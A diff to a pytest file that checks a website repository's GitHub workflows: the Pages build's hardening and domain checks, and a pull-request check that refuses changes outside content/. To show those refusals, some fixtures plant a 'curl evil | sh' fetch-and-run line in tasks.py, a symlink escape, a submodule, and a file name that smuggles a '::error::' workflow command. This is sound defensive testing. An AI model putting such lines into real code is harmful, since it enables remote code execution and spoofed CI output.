@@ -1,13 +1,18 @@
-"""The GitHub Pages workflow's own steps, run in order as the runner runs them.
+"""The repository's GitHub workflows: their own steps, run as the runner runs them.
 
-The build job's `run:` steps are executed by bash in a fresh clone, in a clean
-environment holding only what the workflow and the runner set (PATH with a
-fresh virtual environment in place of setup-python, GITHUB_ENV and
-GITHUB_OUTPUT files, the step's `env:` with its expressions resolved). The
-`uses:` steps are stood in for: checkout by the clone, setup-python by the
-fresh virtual environment, configure-pages by its `base_url` output (a project
-site's address, with a path), upload-pages-artifact by the same `tar` command
-it runs, whose archive is then checked.
+The Pages workflow (pages.yml): the build job's `run:` steps are executed by bash in
+a fresh clone, in a clean environment holding only what the workflow and the runner
+set (PATH with a fresh virtual environment in place of setup-python, GITHUB_ENV and
+GITHUB_OUTPUT files, the step's `env:` with its expressions resolved). The `uses:`
+steps are stood in for: checkout by the clone, setup-python by the fresh virtual
+environment, configure-pages by its `base_url` output (the address the site is
+published at), upload-pages-artifact by the same `tar` command it runs, whose archive
+is then checked.
+
+The content-only check (content-only.yml), which the ruleset on main requires of
+every pull request: its script is run by bash as the runner runs it, in a clone
+holding a simulated pull request (a base commit on main, a staff member's branch),
+with the base and head commits the pull_request event gives.
 """
 
 import os
@@ -15,24 +20,40 @@ import re
 import subprocess
 import sys
 import tarfile
+from pathlib import Path
 
 import pytest
 import yaml
 
-from helpers import WORKFLOW, git, require
+from helpers import WORKFLOW, assert_refused, git, require, user_env
 
-BASE_URL = "https://owner.github.io/embassy"
+CONTENT_ONLY = WORKFLOW.parent / "content-only.yml"
+BASE_URL = "https://www.embassy.example"  # configure-pages' base_url: a custom domain
+PROJECT_URL = "https://owner.github.io/embassy"  # its base_url without one
 EXPRESSION = re.compile(r"\$\{\{\s*([^}]*?)\s*\}\}")
+PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")  # owner/action@<commit>
 
 
-def resolve(value, outputs):
-    """A workflow value with its ${{ steps.ID.outputs.NAME }} expressions replaced."""
+def resolve(value, outputs, event=None):
+    """A workflow value with its ${{ steps.ID.outputs.NAME }} and ${{ github.event.… }}
+    expressions replaced."""
     def replace(match):
         found = re.fullmatch(r"steps\.([\w-]+)\.outputs\.([\w-]+)", match.group(1))
-        assert found, f"the test does not know the expression {match.group(0)}"
-        return outputs[found.group(1)][found.group(2)]
+        if found:
+            return outputs[found.group(1)][found.group(2)]
+        assert event is not None and match.group(1).startswith("github.event."), (
+            f"the test does not know the expression {match.group(0)}")
+        value = event
+        for key in match.group(1).removeprefix("github.event.").split("."):
+            value = value[key]
+        return str(value)
 
     return EXPRESSION.sub(replace, str(value))
+
+
+def triggers(workflow):
+    """A workflow's `on:` (which YAML 1.1 reads as the key True)."""
+    return workflow.get("on", workflow.get(True))
 
 
 def read_key_values(path):
@@ -53,7 +74,7 @@ def clone(clone_copy, tmp_path):
     return workspace
 
 
-def test_the_workflow_build_job_publishes_a_checked_site_for_a_project_url(clone, tmp_path):
+def test_the_workflow_build_job_publishes_a_checked_site_for_a_custom_domain(clone, tmp_path):
     require("java", "chromium", "git", "npm")
     job = yaml.safe_load(WORKFLOW.read_text())["jobs"]["build"]
     python = tmp_path / "python"  # actions/setup-python: a Python of its own on PATH
@@ -103,3 +124,204 @@ def test_the_workflow_build_job_publishes_a_checked_site_for_a_project_url(clone
     assert any(name.startswith("admin/assets/") and name.endswith(".woff2") for name in names)
     assert f'<link rel="canonical" href="{BASE_URL}/en/">' in home
     assert f'href="{BASE_URL}/theme/css/' in home
+
+
+def test_the_workflow_refuses_to_publish_the_editor_at_a_project_address(project_copy,
+                                                                         good_output):
+    """Without a custom domain, configure-pages gives a project address, whose origin
+    every GitHub Pages site of its owner shares: the publish step stops, in one line,
+    and the last good output stays."""
+    job = yaml.safe_load(WORKFLOW.read_text())["jobs"]["build"]
+    step = next(step for step in job["steps"] if "EDITOR_REQUIRED" in step.get("env", {}))
+    env = {name: resolve(value, {"pages": {"base_url": PROJECT_URL}})
+           for name, value in step["env"].items()}
+    assert env["EDITOR_REQUIRED"] == "true"
+    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"  # invoke, as installed
+    result = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=project_copy,
+                            env=user_env(PATH=path, **env), capture_output=True, text=True,
+                            timeout=600)
+    reason = (f"publishconf.py (SITEURL): this build must include the browser editor, but at "
+              f"{PROJECT_URL} it would share its origin, https://owner.github.io, with every "
+              "GitHub Pages site of owner, any of which could read the staff's token.\n"
+              "  How to fix: give the site a custom domain (README.md, \"A custom domain for "
+              "the editor\").")
+    assert_refused(result, good_output, reason)
+
+
+def test_the_pages_workflow_is_hardened():
+    """Each job has a time limit; only main deploys, whatever started the run; pip
+    installs wheels only (no package's build code runs), each with its hash from the
+    lock; every action is pinned to a commit; each job has only the rights it needs."""
+    workflow = yaml.safe_load(WORKFLOW.read_text())
+    assert workflow["permissions"] == {}
+    jobs = workflow["jobs"]
+    for name, job in jobs.items():
+        assert 0 < job["timeout-minutes"] <= 60, name
+        for step in job["steps"]:
+            assert "uses" not in step or PINNED.fullmatch(step["uses"]), step["uses"]
+    assert jobs["build"]["permissions"] == {"contents": "read"}
+    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
+    assert jobs["deploy"]["needs"] == "build"
+    assert jobs["deploy"]["if"] == "github.ref == 'refs/heads/main'"
+    assert jobs["deploy"]["environment"]["name"] == "github-pages"
+    installs = [step["run"] for step in jobs["build"]["steps"]
+                if "pip install" in step.get("run", "")]
+    assert installs == ["python -m pip install --only-binary :all: --require-hashes "
+                        "-r requirements.lock"]
+    checkout = jobs["build"]["steps"][0]
+    assert checkout["uses"].startswith("actions/checkout@")
+    assert checkout["with"]["persist-credentials"] is False
+
+
+# --- The content-only check -------------------------------------------------------------
+
+def test_the_content_only_check_runs_no_code_with_read_only_rights():
+    """pull_request only (never pull_request_target, which hands a pull request the
+    repository's secrets and a writing token); read-only; a time limit; checkout (pinned,
+    keeping no credentials) then the check itself, inline: no file of the repository
+    runs, and no other action."""
+    workflow = yaml.safe_load(CONTENT_ONLY.read_text())
+    assert "pull_request_target" not in repr(workflow)  # nowhere, comments aside
+    assert list(triggers(workflow)) == ["pull_request"]
+    assert {"opened", "synchronize", "reopened", "edited"} <= set(
+        triggers(workflow)["pull_request"]["types"])
+    assert workflow["permissions"] == {}
+    [(name, job)] = workflow["jobs"].items()
+    assert job["name"] == "content-only"  # the check the ruleset requires, by this name
+    assert job["permissions"] == {"contents": "read"}
+    assert 0 < job["timeout-minutes"] <= 10
+    assert "if" not in job  # a skipped job reports success
+    checkout, check = job["steps"]
+    assert PINNED.fullmatch(checkout["uses"]) and checkout["uses"].startswith("actions/checkout@")
+    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
+    assert set(check) == {"name", "shell", "env", "run"} and check["shell"] == "bash"
+    assert check["env"] == {"BASE_SHA": "${{ github.event.pull_request.base.sha }}",
+                            "HEAD_SHA": "${{ github.event.pull_request.head.sha }}"}
+    assert "${{" not in check["run"]  # no expression is pasted into the script
+
+
+CODEOWNERS = "*  @embassy-maintainer\n/content/\n"
+NEWS = "content/news/official-visit"
+
+
+def _staff_change(folder, change, codeowners=CODEOWNERS):
+    """A clone holding a pull request, as actions/checkout leaves it: main (the site, in
+    short) and a staff member's branch with `change` applied to it; returns the clone
+    and the pull_request event's base and head commits."""
+    origin = folder / "origin"
+    origin.mkdir()
+    git(origin, "init", "--quiet", "--initial-branch=main")
+    files = {".github/CODEOWNERS": codeowners, "tasks.py": "print('build')\n",
+             "plugins/embassy/admin.py": "# the editor\n",
+             f"{NEWS}/index.en.md": "---\ntitle: \"Visit\"\n---\n\nText.\n",
+             "content/pages/about/index.en.md": "---\ntitle: \"About\"\n---\n\nText.\n"}
+    for path, text in files.items():
+        (origin / path).parent.mkdir(parents=True, exist_ok=True)
+        (origin / path).write_text(text)
+    git(origin, "add", "--all")
+    git(origin, "commit", "--quiet", "-m", "The site")
+    base = git(origin, "rev-parse", "HEAD").strip()
+    git(origin, "switch", "--quiet", "-c", "cms/news/official-visit")
+    change(origin)
+    git(origin, "add", "--all")
+    git(origin, "commit", "--quiet", "-m", "Save from the editor")
+    head = git(origin, "rev-parse", "HEAD").strip()
+    git(origin, "switch", "--quiet", "main")
+    git(origin, "commit", "--quiet", "--allow-empty", "-m", "main goes on meanwhile")
+    workspace = folder / "workspace"
+    git(folder, "clone", "--quiet", str(origin), str(workspace))
+    git(workspace, "fetch", "--quiet", "origin", head)
+    git(workspace, "checkout", "--quiet", "--detach", head)
+    return workspace, {"pull_request": {"base": {"sha": base}, "head": {"sha": head}}}
+
+
+def run_content_check(workspace, event):
+    """The check's step as the runner runs it (`shell: bash`), in the clone."""
+    step = yaml.safe_load(CONTENT_ONLY.read_text())["jobs"]["content-only"]["steps"][-1]
+    script = workspace.parent / "check.sh"
+    script.write_text(step["run"])
+    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(workspace.parent),
+           "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace),
+           **{name: resolve(value, {}, event) for name, value in step["env"].items()}}
+    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
+                          cwd=workspace, env=env, capture_output=True, text=True, timeout=60)
+
+
+def write(path, data):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data) if isinstance(data, bytes) else path.write_text(data)
+
+
+def news_item_with_photo(repo):
+    write(repo / NEWS / "index.en.md", "---\ntitle: \"Official visit\"\n---\n\nNew text.\n")
+    write(repo / NEWS / "index.es.md", "---\ntitle: \"Visita oficial\"\n---\n\nTexto.\n")
+    write(repo / NEWS / "photo.jpg", b"\xff\xd8\xff\xe0 a photo")
+
+
+def test_the_content_only_check_accepts_a_news_item_with_its_photo(tmp_path):
+    require("git")
+    workspace, event = _staff_change(tmp_path, news_item_with_photo)
+    result = run_content_check(workspace, event)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "Content only: the pull request's 3 changed files are all in content/." in result.stdout
+
+
+def with_tasks_changed(repo):
+    news_item_with_photo(repo)
+    write(repo / "tasks.py", "print('build')\nimport os; os.system('curl evil | sh')\n")
+
+
+def with_plugin_moved_into_content(repo):
+    (repo / "plugins/embassy/admin.py").rename(repo / "content/admin.py")
+
+
+def with_content_moved_out(repo):
+    (repo / "theme" / "templates").mkdir(parents=True)
+    (repo / NEWS / "index.en.md").rename(repo / "theme" / "templates" / "base.html")
+
+
+def with_symlink_in_content(repo):
+    (repo / NEWS / "photo.jpg").symlink_to("../../../tasks.py")
+
+
+def with_submodule_in_content(repo):
+    vendor = repo / "content" / "vendor"  # another repository, added as a submodule is
+    vendor.mkdir()
+    git(vendor, "init", "--quiet")
+    git(vendor, "commit", "--quiet", "--allow-empty", "-m", "Elsewhere")
+
+
+def with_odd_name_outside(repo):
+    write(repo / "admin" / "editor\n::error::fake.js", "alert(1)\n")
+
+
+@pytest.mark.parametrize("change, named", [
+    (with_tasks_changed, ["tasks.py"]),
+    (with_plugin_moved_into_content, ["plugins/embassy/admin.py"]),  # the deletion
+    (with_content_moved_out, ["theme/templates/base.html"]),  # the addition
+    (with_symlink_in_content, [f"{NEWS}/photo.jpg (a symbolic link)"]),
+    (with_submodule_in_content, ["content/vendor (a submodule)"]),
+    (with_odd_name_outside, ["$'admin/editor\\n::error::fake.js'"]),
+])
+def test_the_content_only_check_names_what_a_staff_change_touches_outside_content(
+        tmp_path, change, named):
+    require("git")
+    workspace, event = _staff_change(tmp_path, change)
+    result = run_content_check(workspace, event)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert "Refused: these changes are outside content/, or are not plain files:" in result.stdout
+    listed = result.stdout.split("::stop-commands::")[1].splitlines()[1:-1]
+    assert listed == [f"  {name}" for name in named]
+
+
+def test_the_content_only_check_refuses_everything_until_code_owners_are_named(tmp_path):
+    """The placeholder of .github/CODEOWNERS left in place, no change passes: code owners'
+    review, the second lock, would not hold."""
+    require("git")
+    placeholder = (Path(__file__).parent.parent / ".github" / "CODEOWNERS").read_text()
+    assert "@REPLACE_WITH_MAINTAINERS" in placeholder
+    workspace, event = _staff_change(tmp_path, news_item_with_photo, codeowners=placeholder)
+    result = run_content_check(workspace, event)
+    assert result.returncode == 1
+    assert ("Refused: .github/CODEOWNERS on the base branch must name the maintainers "
+            "(README.md, \"What the administrator must set on GitHub\").") in result.stdout
